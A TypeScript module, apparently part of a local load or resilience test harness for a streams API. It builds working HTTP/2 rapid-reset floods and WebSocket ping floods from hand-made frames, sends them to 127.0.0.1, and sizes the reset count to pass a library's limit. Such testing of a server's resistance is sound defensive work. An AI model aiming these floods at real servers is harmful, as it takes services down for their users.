/** Floods of small frames, over connections of their own. */

import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';
import { call, type Shot, type Target } from './attack.ts';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
/** An empty frame that closes a WebSocket. */
const CLOSE = Buffer.of(0x88, 0x80, 0, 0, 0, 0);
/** `:method GET`, `:scheme http`, `:path /` and an authority, all of it in the static table but the last. */
const GET = Buffer.from([0x82, 0x86, 0x84, 0x41, 0x01, 0x78]);
/** The library below Node ends a session after a thousand. */
const RESETS = 1_500;
/** What the system hands over at once is a little less. */
const PINGS = 11_000;

/**
 * Requests without a token that are reset at once, over so many connections together. `still` makes the server stand
 * still meanwhile, so that all of it is there in one turn.
 */
export function resetFlood(
  port: number,
  connections: number,
  still: () => Promise<unknown>,
  open: (port: number) => Promise<Socket> = connected,
): Shot {
  const frames = [PREFACE, frame(4, 0, 0)];
  for (let i = 0; i < RESETS; i++) {
    const stream = 2 * i + 1;
    frames.push(frame(1, 5, stream, GET), frame(3, 0, stream, Buffer.of(0, 0, 0, 8)));
  }
  const bytes = Buffer.concat(frames);
  return async () => {
    const sockets = await Promise.all(Array.from({ length: connections }, () => open(port)));
    const standing = still();
    const answers = sockets.map((socket) => new Promise<void>((resolve) => socket.once('data', () => resolve())));
    for (const socket of sockets) socket.write(bytes);
    await Promise.all([standing, ...answers]);
    for (const socket of sockets) socket.destroy();
  };
}

/** Readers that send pings and then close, so many at once and with the server as for `resetFlood`. */
export async function pingFlood(target: Target, readers: number, still: () => Promise<unknown>): Promise<Shot> {
  await call(target, {
    method: 'POST',
    path: '/v1/streams/pinged/records',
    headers: { 's2-basin': 'telemetry', 'content-type': 'application/json' },
    body: '{"records":[{"body":"x"}]}',
  });
  const bytes = Buffer.concat([Buffer.alloc(PINGS * 6, Buffer.of(0x89, 0x80, 0, 0, 0, 0)), CLOSE]);
  return async () => {
    const sockets = await Promise.all(Array.from({ length: readers }, () => connected(target.port)));
    await Promise.all(
      sockets.map(async (socket) => {
        const upgraded = new Promise<void>((resolve) => socket.once('data', () => resolve()));
        socket.write(upgrade(target));
        await upgraded;
      }),
    );
    const closed = sockets.map((socket) => new Promise<void>((resolve) => socket.once('close', () => resolve())));
    const standing = still();
    for (const socket of sockets) socket.resume().write(bytes);
    await Promise.all([standing, ...closed]);
  };
}

/** A connection over TLS, for HTTP/2; the certificate may be anything. */
export async function connectedByTls(port: number): Promise<Socket> {
  const socket = connectTls({ port, host: '127.0.0.1', ALPNProtocols: ['h2'], rejectUnauthorized: false });
  socket.on('error', () => {});
  await once(socket, 'secureConnect');
  return socket;
}

async function connected(port: number): Promise<Socket> {
  const socket = connect(port, '127.0.0.1');
  socket.on('error', () => {});
  await new Promise<void>((resolve) => socket.once('connect', () => resolve()));
  return socket;
}

function upgrade({ token }: Target): Buffer {
  return Buffer.from(
    [
      'GET /v1/streams/pinged/records?seq_num=0 HTTP/1.1',
      'Host: x',
      'Connection: Upgrade',
      'Upgrade: websocket',
      'Sec-WebSocket-Version: 13',
      'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
      'S2-Basin: telemetry',
      `Authorization: Bearer ${token}`,
      '',
      '',
    ].join('\r\n'),
  );
}

function frame(type: number, flags: number, stream: number, payload: Uint8Array = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
